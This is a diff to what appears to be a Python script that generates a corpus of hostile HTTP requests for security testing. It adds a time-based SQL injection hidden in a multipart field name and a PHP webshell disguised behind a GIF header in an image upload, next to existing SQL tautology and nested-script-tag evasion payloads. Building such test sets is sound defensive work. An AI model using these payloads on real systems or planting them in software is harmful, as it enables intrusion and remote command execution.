@@ -188,6 +188,16 @@ add("evasion", method="POST", target="/checkout/promo", profile="form",
 add("evasion", target="/search?q=safe&q=" + q("' or '1'='1"), profile="chrome", note="parameter pollution with a second tautology value")
 add("evasion", target="/api/search?q=" + q("<scr<script>ipt>alert(1)</scr</script>ipt>"), profile="xhr", note="nested tag to beat naive stripping")
 
+# ---------------------------------------------------------------- added before the commit of the set, same rules
+add("sqli", method="POST", target="/apply/passport/documents", profile="form_multipart",
+    multipart={"boundary": "----WebKitFormBoundaryqZ8x2Lm4Nn6Pp0Rr", "parts": [
+        {"name": "sort'||(select pg_sleep(5))||'", "data": "asc"},
+        {"name": "doc_type", "data": "proof_of_address"}]}, note="sqli in a multipart part name")
+add("rce", method="POST", target="/api/albums/al_12/avatar", profile="api_multipart",
+    multipart={"boundary": "7MA4YWxkTrZu0gW", "parts": [
+        {"name": "file", "filename": "cover.php.jpg", "content_type": "image/jpeg",
+         "data": "GIF89a;<?php echo shell_exec($_GET['c']); ?>"}]}, note="PHP webshell behind a GIF header in an image upload")
+
 
 def main():
     os.makedirs(OUT, exist_ok=True)
